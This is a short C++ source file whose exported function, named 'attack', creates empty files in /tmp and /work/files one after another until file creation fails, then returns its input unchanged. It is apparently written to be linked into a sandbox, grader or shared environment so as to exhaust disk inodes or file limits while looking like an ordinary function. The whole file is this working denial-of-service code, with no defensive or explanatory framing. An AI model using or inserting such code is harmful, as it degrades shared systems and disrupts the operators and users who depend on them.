#include <cstdio>
#include <fcntl.h>
#include <initializer_list>
#include <unistd.h>

extern "C" long attack(long n) {
    char name[64];
    for (const char *folder : {"/tmp", "/work/files"})
        for (int file = 0, i = 0; file >= 0; i++) {
            snprintf(name, sizeof name, "%s/%d", folder, i);
            file = open(name, O_CREAT | O_WRONLY, 0600);
            close(file);
        }
    return n;
}
